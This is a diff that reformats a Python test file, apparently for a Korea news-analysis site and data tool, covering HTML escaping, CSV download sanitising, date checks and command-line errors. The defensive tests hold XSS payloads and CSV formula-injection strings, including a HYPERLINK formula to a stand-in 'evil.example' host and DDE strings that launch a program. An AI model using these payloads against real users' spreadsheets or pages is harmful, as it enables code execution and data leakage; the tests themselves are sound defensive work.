@@ -31,7 +31,7 @@ from twokoreas.site.notebooks import figure_caption
 from twokoreas.tables import ReaderTable
 
 SCRIPT = '<script>alert("TKX-rel")</script>'
-IMG = '<img src=x onerror=alert(1)>'
+IMG = "<img src=x onerror=alert(1)>"
 SEED = "raw/articles/000_808c9a3eda23d770.txt"
 
 
@@ -40,6 +40,7 @@ def elements(markup):
 
 
 # --- escape by construction -------------------------------------------------------------------------------------
+
 
 def test_X01_X02_a_reader_table_escapes_every_cell_and_heading():
     frame = pd.DataFrame({f"note {IMG}": [f"{SCRIPT} reliable", "US$150 million / $150 million"]})
@@ -70,8 +71,18 @@ def test_a_figure_caption_escapes_its_title():
 
 # --- downloads: no formula, no draft ------------------------------------------------------------------------------
 
-@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?x","click")', '+cmd|" /C calc"!A0',
-                                  "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"])
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '=HYPERLINK("http://evil.example/?x","click")',
+        '+cmd|" /C calc"!A0',
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
 def test_X03_X04_a_download_never_carries_a_formula(tmp_path, cell):
     write_download(pd.DataFrame({"note": [cell, "-5", "+1.5", "plain"]}), tmp_path / "t.csv")
     with open(tmp_path / "t.csv", encoding="utf-8", newline="") as file:
@@ -80,10 +91,14 @@ def test_X03_X04_a_download_never_carries_a_formula(tmp_path, cell):
 
 
 def test_X03_check_warns_about_a_cell_a_spreadsheet_runs_as_a_formula(data_copy):
-    edit_csv(data_copy / "articles.csv", "Sputnik is Russian state media.", '=HYPERLINK(""http://evil.example"") Sputnik')
+    edit_csv(
+        data_copy / "articles.csv", "Sputnik is Russian state media.", '=HYPERLINK(""http://evil.example"") Sputnik'
+    )
     assert not validate_all(data_copy)
     warnings = [str(w) for w in formula_warnings(data_copy)]
-    assert len(warnings) == 1 and "articles.csv:" in warnings[0] and ": reliability_note: begins with '='" in warnings[0]
+    assert (
+        len(warnings) == 1 and "articles.csv:" in warnings[0] and ": reliability_note: begins with '='" in warnings[0]
+    )
 
 
 def test_the_curated_data_has_no_formula_to_warn_about():
@@ -122,6 +137,7 @@ def test_A26_a_url_is_http_or_https_with_no_space(data_copy, url):
 
 # --- add answers every input --------------------------------------------------------------------------------------
 
+
 def test_A11_a_seed_text_plus_a_newline_is_refused_naming_the_article(data_copy, tmp_path):
     copy = tmp_path / "again.txt"
     copy.write_text((data_copy / SEED).read_text(encoding="utf-8") + "\n", encoding="utf-8")
@@ -142,16 +158,27 @@ def test_A11_a_text_with_a_few_words_changed_is_a_near_duplicate(data_copy, tmp_
 def test_A20_a_published_date_that_disagrees_with_the_printed_one_names_both(data_copy, tmp_path):
     dated = tmp_path / "dated.txt"
     dated.write_text("Seoul sends aid\n5 May 2024\nSeoul sent 7 trucks of aid, officials said.\n", encoding="utf-8")
-    with pytest.raises(DataError, match=r"--published: 2020-01-01 disagrees with the date the text prints, "
-                                        r"2024-05-05 \('5 May 2024'\)"):
+    with pytest.raises(
+        DataError,
+        match=r"--published: 2020-01-01 disagrees with the date the text prints, "
+        r"2024-05-05 \('5 May 2024'\)",
+    ):
         add_article(dated, published="2020-01-01", data_dir=data_copy)
     assert add_article(dated, published="2024-05-05", data_dir=data_copy)[0].startswith("005_")
 
 
-@pytest.mark.parametrize("date, problem", [("2024-1-1", "is not a YYYY-MM-DD date"), ("2024-02-30", "is not a YYYY"),
-                                           ("9999-12-31", "is not a plausible"), ("0001-01-01", "is not a plausible"),
-                                           ("2100-01-01", "is not a plausible"), ("1989-12-31", "is not a plausible"),
-                                           ("２０２４-01-01", "is not a YYYY")])
+@pytest.mark.parametrize(
+    "date, problem",
+    [
+        ("2024-1-1", "is not a YYYY-MM-DD date"),
+        ("2024-02-30", "is not a YYYY"),
+        ("9999-12-31", "is not a plausible"),
+        ("0001-01-01", "is not a plausible"),
+        ("2100-01-01", "is not a plausible"),
+        ("1989-12-31", "is not a plausible"),
+        ("２０２４-01-01", "is not a YYYY"),
+    ],
+)
 def test_A18_A19_a_published_date_is_strict_iso_within_1990_and_next_year(date, problem):
     with pytest.raises(DataError, match=f"--published: .*{problem}"):
         check_published(date, today=datetime.date(2026, 12, 7))
@@ -161,8 +188,9 @@ def test_A18_A19_a_published_date_is_strict_iso_within_1990_and_next_year(date, 
 
 def test_A28_a_20_MB_text_is_refused_with_its_size(data_copy, tmp_path):
     big = tmp_path / "big.txt"
-    big.write_text((data_copy / "raw/articles/001_0cad51775cc05eaf.txt").read_text(encoding="utf-8") * 1000,
-                   encoding="utf-8")
+    big.write_text(
+        (data_copy / "raw/articles/001_0cad51775cc05eaf.txt").read_text(encoding="utf-8") * 1000, encoding="utf-8"
+    )
     with pytest.raises(DataError, match=r"big.txt: is 20\.\d MB; an article is at most 1 MB"):
         add_article(big, data_dir=data_copy)
 
@@ -175,6 +203,7 @@ def test_A04_a_utf16_file_is_named_as_utf16_not_binary(data_copy, tmp_path):
 
 
 # --- the command line answers every input ---------------------------------------------------------------------------
+
 
 def error_line(capsys, argv, status):
     with pytest.raises(SystemExit) as exit_:
@@ -194,8 +223,11 @@ def test_K23_review_accept_empty_is_refused(capsys):
 
 
 def test_K26_explain_with_corpus_is_refused(capsys, tmp_path):
-    line = error_line(capsys, ["extract", "--explain", "--corpus", str(paths.DATA / "raw/articles"),
-                               "--out", str(tmp_path / "x.parquet")], 2)
+    line = error_line(
+        capsys,
+        ["extract", "--explain", "--corpus", str(paths.DATA / "raw/articles"), "--out", str(tmp_path / "x.parquet")],
+        2,
+    )
     assert "--explain lists one file's non-quantities" in line and not (tmp_path / "x.parquet").exists()
 
 
@@ -206,8 +238,20 @@ def test_A25_a_file_name_read_as_an_option_is_said(capsys):
 
 @pytest.mark.parametrize("timeout", ["-5", "0"])
 def test_K24_a_timeout_that_is_not_positive_is_refused(capsys, tmp_path, timeout):
-    assert cli.main(["extract", "--corpus", str(paths.DATA / "raw/articles"), "--out", str(tmp_path / "x.parquet"),
-                     "--timeout", timeout]) == 1
+    assert (
+        cli.main(
+            [
+                "extract",
+                "--corpus",
+                str(paths.DATA / "raw/articles"),
+                "--out",
+                str(tmp_path / "x.parquet"),
+                "--timeout",
+                timeout,
+            ]
+        )
+        == 1
+    )
     assert capsys.readouterr().err == f"--timeout: must be more than 0 seconds, not {float(timeout):g}\n"
 
 
@@ -246,6 +290,7 @@ def test_R01_a_refused_accept_says_more_problems_may_follow(capsys, data_copy, t
 
 # --- the build never loses a person's work -------------------------------------------------------------------------
 
+
 def test_S01_a_notebook_saved_during_the_build_is_not_overwritten(small_project, monkeypatch, capsys):
     notebook = write(small_project, "00_a.ipynb", "1 + 1")
     execute = runner._Build.execute
@@ -261,9 +306,10 @@ def test_S01_a_notebook_saved_during_the_build_is_not_overwritten(small_project,
     saved = notebook.read_bytes()
     assert runner.run_all() == 1
     err = capsys.readouterr().err
-    assert err == ("notebooks/00_a.ipynb: changed while the build ran (saved in JupyterLab?), so the build did not "
-                   "overwrite it: run `make` again to build it as it is now; nothing was changed\n").replace(
-        "notebooks/00_a.ipynb", runner._show(notebook))
+    assert err == (
+        "notebooks/00_a.ipynb: changed while the build ran (saved in JupyterLab?), so the build did not "
+        "overwrite it: run `make` again to build it as it is now; nothing was changed\n"
+    ).replace("notebooks/00_a.ipynb", runner._show(notebook))
     assert notebook.read_bytes() != saved and "my notes" in notebook.read_text(), "the person's save is kept"
     assert not (small_project.parent / "figures" / "index.csv").exists(), "nothing else was saved"
 
@@ -277,8 +323,10 @@ def test_S05_a_full_disk_names_the_step_and_the_folder(small_project, monkeypatc
     monkeypatch.setattr(staging, "commit", full)
     assert runner.run_all() == 1
     assert capsys.readouterr().err.endswith(
-        "No space left on device while saving into notebooks/, " f"{runner._show(paths.figures_dir())}/ and site/; "
-        "nothing was changed\n")
+        "No space left on device while saving into notebooks/, "
+        f"{runner._show(paths.figures_dir())}/ and site/; "
+        "nothing was changed\n"
+    )
 
 
 def test_K32_a_file_in_the_way_of_the_site_is_replaced_and_nothing_is_left_beside_it(tmp_path):
@@ -293,9 +341,17 @@ def test_K32_a_file_in_the_way_of_the_site_is_replaced_and_nothing_is_left_besid
 
 # --- the cache sees everything the output depends on ---------------------------------------------------------------
 
-@pytest.mark.parametrize("kind, file", [("code", "charts.py"), ("stylesheet", "site/static/twokoreas.css"),
-                                        ("JavaScript", "site/static/new.js"), ("template", "site/templates/page.html"),
-                                        ("package data", "data/words.json")])
+
+@pytest.mark.parametrize(
+    "kind, file",
+    [
+        ("code", "charts.py"),
+        ("stylesheet", "site/static/twokoreas.css"),
+        ("JavaScript", "site/static/new.js"),
+        ("template", "site/templates/page.html"),
+        ("package data", "data/words.json"),
+    ],
+)
 def test_C06_a_change_to_any_file_of_the_package_is_a_new_input(tmp_path, monkeypatch, kind, file):
     package = tmp_path / "twokoreas"
     shutil.copytree(build_cache.PACKAGE, package, ignore=shutil.ignore_patterns("__pycache__"))
